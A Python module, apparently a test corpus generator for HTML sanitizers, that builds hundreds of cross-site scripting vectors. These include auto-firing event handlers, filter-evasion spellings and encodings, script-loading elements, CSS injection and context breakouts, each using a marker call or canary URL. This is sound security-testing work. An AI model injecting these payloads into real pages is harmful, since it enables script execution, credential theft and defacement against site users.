"""Hostile markup, generated: tags by events, ways to write a tag, and ways out of a place.

`§` stands for the number of the vector: `hit(§)` tells the page's listener who ran, `//canary.example/§` who loaded.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import Final

CANARY: Final = "//canary.example/§"
_AUTOMATIC: Final = (
    ("img", "onerror", "src=x"),
    ("img", "onload", "src=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="),
    ("image", "onerror", "src=x"),
    ("video", "onerror", "src=x"),
    ("audio", "onerror", "src=x"),
    ("video", "onloadstart", "src=x"),
    ("input", "onerror", "type=image src=x"),
    ("input", "onfocus", "autofocus"),
    ("button", "onfocus", "autofocus"),
    ("select", "onfocus", "autofocus"),
    ("textarea", "onfocus", "autofocus"),
    ("a", "onfocus", "href=# autofocus"),
    ("div", "onfocus", "tabindex=0 autofocus"),
    ("details", "ontoggle", "open"),
    ("dialog", "onfocus", "open tabindex=0 autofocus"),
    ("body", "onload", ""),
    ("body", "onpageshow", ""),
    ("svg", "onload", ""),
    ("iframe", "onload", ""),
    ("object", "onerror", "data=x"),
    ("embed", "onload", "src=about:blank"),
    ("link", "onerror", "rel=stylesheet href=x"),
    ("link", "onload", "rel=stylesheet href=data:text/css,"),
    ("script", "onerror", "src=x"),
    ("style", "onload", ""),
    ("marquee", "onstart", ""),
    ("p", "onanimationstart", "style=animation:a11y-x 1ms"),
    ("p", "ontransitionend", "style=transition:1ms"),
    ("track", "onerror", "src=x default"),
    ("source", "onerror", "src=x"),
    ("frameset", "onload", ""),
    ("math", "onfocus", "tabindex=0 autofocus"),
    ("x-y", "onfocus", "tabindex=0 autofocus"),
)
_BY_HAND: Final = (
    "onclick", "onmouseover", "onpointerenter", "onkeydown", "oncopy", "onpaste", "onwheel", "oncontextmenu",
    "ondrop", "onbeforetoggle", "onscrollend", "onauxclick", "oninput", "onsubmit", "oninvalid",
    "onbeforeinput", "onselectionchange", "onhashchange",
)  # fmt: skip
RAW: Final = ("style", "title", "noscript", "textarea", "xmp", "iframe", "noembed", "noframes", "template", "script")
_OUT: Final = (
    *(
        '">',
        "'>",
        "`>",
        ">",
        "-->",
        "--!>",
        "]]>",
        "?>",
        "*/",
        "}",
        '\\">',
        '"/>',
        "\x00>",
        "&quot;>",
        "<!-->",
        "<!--->",
    ),
    *(f"</{name}>" for name in (*RAW, "select", "svg", "math", "table", "head", "body", "html", "plaintext")),
)
_PAYLOADS: Final = ("<script>hit(§)</script>", "<img src=x onerror=hit(§)>", "<svg onload=hit(§)>")


def events() -> Iterator[str]:
    """Give elements with handlers, those that run by themselves first."""
    for tag, event, more in _AUTOMATIC:
        yield f"<{tag} {more} {event}=hit(§)>"
        yield (
            f'<{tag.upper()}/{more}/{event.title()}="hit(§)"/>' if " " not in more else f"<{tag} {event}=hit(§) {more}"
        )
    for event in _BY_HAND:
        yield f"<b {event}='hit(§)'>text</b>"
    yield "<style>@keyframes a11y-x{}</style><b style=animation-name:a11y-x onanimationstart=hit(§)>x</b>"
    for event in ("onbegin", "onend", "onrepeat"):
        yield f"<svg><animate {event}=hit(§) attributeName=x dur=1ms>"
        yield f"<svg><set {event}=hit(§) attributeName=x dur=1ms>"


def writings() -> Iterator[str]:
    """Give one tag in every way in which it has been written to pass a filter."""
    tag = "<img src=x onerror=hit(§)>"
    for blank in ("\t", "\n", "\f", "\r", "/", "//", " / ", "\x0b", "\u00a0", "/\x00/", " \n\n "):
        yield f"<img{blank}src=x{blank}onerror=hit(§)>"
    for mark in ('"', "'", "`"):
        yield f"<img src={mark}x{mark} onerror={mark}hit(§){mark}>"
        yield f"<img src={mark}x{mark}onerror={mark}hit(§){mark}>"
    yield from ("<" + tag, "<<" + tag + ">", tag[:-1], tag[:-1] + "//", "<\x00img src=x onerror=hit(§)>")
    yield from (f"<{tag}", f"<!{tag}", f"<?{tag}", f"</{tag}", f"<% {tag} %>", f"<![CDATA[{tag}]]>", f"<!--{tag}")
    yield from ("<iMg SrC=x oNeRrOr=hit(§)>", "<img src=x onerror\n=\nhit(§)>", "<img src=x onerror &#61; hit(§)>")
    yield "<img src=x onerror=&#104;&#105;t(§)>"
    yield "<img src=x onerror=&#x68;&#x69t&lpar;§&rpar;>"
    yield "<img src=x onerror=\\u0068it(§)>"
    yield "<img src=x onerror=eval('\\x68it(§)')>"
    yield "<img src=x onerror=window['h'+'it'](§)>"
    yield "<img src=x onerror=top[8680439..toString(30)],hit(§)>"
    yield "<img src=x:x onerror=hit`§`>"
    yield from (
        tag.replace("<", "&lt;").replace(">", "&gt;"),
        tag.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
        tag.replace("<", "&#60;").replace(">", "&#62;"),
        tag.replace("<", "&#x3c"),
        tag.replace("<", "&LT"),
        tag.replace("<", "%3C").replace(">", "%3E"),
        tag.replace("<", "\\x3c").replace(">", "\\x3e"),
        tag.replace("<", "\\u003c").replace(">", "\\u003e"),
        tag.replace("<", "\uff1c").replace(">", "\uff1e"),
        tag.replace("<", "+ADw-").replace(">", "+AD4-"),
        tag.replace("<", "\u2039").replace(">", "\u203a"),
        tag.replace("<", "\ufe64").replace(">", "\ufe65"),
    )


def elements() -> Iterator[str]:
    """Give elements that run or load without any handler."""
    script = "<script>hit(§)</script>"
    yield from (script, "<SCRIPT>hit(§)</SCRIPT >", "<script\n>hit(§)</script\n>", "<script/x>hit(§)</script>")
    yield from (
        "<scr<script>ipt>hit(§)</scr</script>ipt>",
        "<script>hit(§)",
        "<script>hit(§)</script",
        "<script>hit(§)//",
    )
    yield from (
        f"<script src={CANARY}></script>",
        f"<script src={CANARY}.js defer>",
        f"<script type=module src={CANARY}>",
    )
    yield from ("<script type=module>hit(§)</script>", "<script type=importmap>{}</script><script>hit(§)</script>")
    yield from ("<script src=data:text/javascript,hit(§)></script>", "<script language=vbs>hit(§)</script>")
    yield from (
        "<svg><script>hit(§)</script></svg>",
        "<svg><script>hit&#40;§)</script>",
        "<math><script>hit(§)</script>",
    )
    yield from ("<svg><script href=data:,hit(§) />", "<svg><script xlink:href='data:,hit(§)'></script>")
    yield from ("<iframe src=javascript:hit(§)>", "<iframe srcdoc='<script>top.hit(§)</script>'></iframe>")
    yield "<iframe srcdoc=&lt;script&gt;parent.hit(§)&lt;/script&gt;></iframe>"
    yield from ("<iframe src='data:text/html,<script>top.hit(§)</script>'></iframe>", f"<iframe src={CANARY}></iframe>")
    yield from (
        "<object data=javascript:hit(§)>",
        "<object data='data:text/html,<script>top.hit(§)</script>'></object>",
    )
    yield from (f"<object data={CANARY}></object>", f"<embed src={CANARY}>", "<embed src=javascript:hit(§)>")
    yield from (f"<object><param name=src value={CANARY}></object>", f"<applet code={CANARY}></applet>")
    yield from (f"<base href={CANARY}/>", "<base href=javascript:/hit(§)//><a href=#>x</a>", "<base target=_blank>")
    yield from (
        "<meta http-equiv=refresh content='0;url=javascript:hit(§)'>",
        f"<meta http-equiv=refresh content=0;url={CANARY}>",
    )
    yield "<meta http-equiv=refresh content='0;url=data:text/html,<script>hit(§)</script>'>"
    yield from ("<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">", "<meta charset=utf-7>")
    yield from (f"<link rel=stylesheet href={CANARY}>", f"<link rel=preload as=script href={CANARY}>")
    yield from (
        f"<link rel=icon href={CANARY}>",
        f"<link rel=prefetch href={CANARY}>",
        f"<link rel=modulepreload href={CANARY}>",
    )
    yield from (f"<link rel=manifest href={CANARY}>", f"<link rel=import href={CANARY}>")
    yield from (
        f"<form action={CANARY}><input name=a autofocus></form>",
        "<form action=javascript:hit(§)><button>x</button>",
    )
    yield from ("<button formaction=javascript:hit(§)>x</button>", "<input type=submit formaction=javascript:hit(§)>")
    yield from (
        "<isindex type=image src=x onerror=hit(§)>",
        "<form id=a></form><button form=a formaction=javascript:hit(§)>",
    )
    yield from (
        f"<img src={CANARY}>",
        f"<img srcset='{CANARY} 2x'>",
        f"<picture><source srcset={CANARY}><img></picture>",
    )
    yield from (
        f"<video src={CANARY}></video>",
        f"<video poster={CANARY}></video>",
        f"<audio src={CANARY} autoplay></audio>",
    )
    yield from (
        f"<body background={CANARY}>",
        f"<table background={CANARY}><td background={CANARY}>x",
        f"<input type=image src={CANARY}>",
    )
    yield from (
        f"<svg><image href={CANARY} /></svg>",
        f"<svg><use href={CANARY}#x /></svg>",
        f"<svg><feImage xlink:href={CANARY} />",
    )
    yield from (
        "<a href=javascript:hit(§)>x</a>",
        "<area href=javascript:hit(§)>",
        "<svg><a xlink:href=javascript:hit(§)><text>x</text></a>",
    )
    yield from (
        "<math href=javascript:hit(§)>x</math>",
        "<math><maction actiontype=statusline#x xlink:href=javascript:hit(§)>x",
    )
    yield from ("<math><mtext xlink:href='javascript:hit(§)'>x", "<blockquote cite=javascript:hit(§)>x</blockquote>")
    yield from (
        "<q cite=javascript:hit(§)>x</q>",
        "<del cite=javascript:hit(§)>x</del>",
        f"<a href=/x ping={CANARY}>x</a>",
    )
    yield "<svg><animate xlink:href=#a attributeName=href values=javascript:hit(§) /><a id=a><text>x</text></a>"
    yield "<svg><a><animate attributeName=href to=javascript:hit(§) begin=0s dur=1ms fill=freeze /><text>x</text></a>"
    inner = "<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit(§)</script></svg>"
    yield f"<svg><use href='data:image/svg+xml,{inner}#x' />"
    yield "<svg><foreignObject><iframe src=javascript:hit(§)></iframe></foreignObject></svg>"
    yield "<frameset><frame src=javascript:hit(§)></frameset>"
    yield from ("<portal src=javascript:hit(§)>", "<fencedframe src=x onload=hit(§)>", "<layer src=x onload=hit(§)>")
    yield f"<template shadowrootmode=open><img src=x onerror=hit(§)><img src={CANARY}></template>"
    yield "<div><template shadowrootmode=open><script>hit(§)</script></template></div>"
    yield "<xml id=x><a><b>&lt;img src=x onerror=hit(§)&gt;</b></a></xml><span datasrc=#x datafld=b dataformatas=html>"
    yield "<?xml-stylesheet href='javascript:hit(§)'?>"
    yield "<a id=a11yMenu><a id=a11yMenu name=x href=javascript:hit(§)>clobber</a>"
    yield from ("<form name=document><input name=cookie></form>", "<img name=getElementById>", "<a id=__proto__>x</a>")


def styles() -> Iterator[str]:
    """Give styles that load, cover the page, or ran scripts in some browser."""
    for css in (
        f"@import '{CANARY}'",
        f"@import url({CANARY})",
        f"*{{background:url({CANARY})}}",
        f"@font-face{{font-family:x;src:url({CANARY})}}*{{font-family:x}}",
        f"*{{list-style-image:image-set('{CANARY}' 1x)}}",
        f"a[href^='/']{{background:url({CANARY})}}",
        "*{x:expression(hit(§))}",
        "*{behavior:url(x.htc)}",
        "*{-moz-binding:url(x.xml#x)}",
        "</style><script>hit(§)</script>",
        "\\3c/style>\\3cscript>hit(§)",
        "*{x:'</style><img src=x onerror=hit(§)>'}",
        "<!--</style><script>hit(§)</script>",
    ):
        yield f"<style>{css}</style>"
        yield f'<div style="{css.removeprefix("*{").removesuffix("}")}">x</div>'
    yield f"<svg><style>*{{background:url({CANARY})}}</style></svg>"
    yield f"<p style='background:u\\72l({CANARY})'>x"
    yield "<p style='position:fixed;inset:0;z-index:9999'>x"


def ways_out() -> Iterator[str]:
    """Give every way out of an attribute, a comment or raw text, before every payload."""
    yield from (out + payload for out, payload in product(_OUT, _PAYLOADS))
    for quote, (_, event, more) in product("\"'", _AUTOMATIC[::3]):
        yield f"x{quote} {more} {event}={quote}hit(§){quote} x={quote}"
    for quote in "\"'":
        yield f"x{quote} onfocus={quote}hit(§){quote} autofocus tabindex=0 x={quote}"
        yield f"x{quote} style={quote}background:url({CANARY}){quote} x={quote}"
        yield f"#{quote}><script>hit(§)</script>"
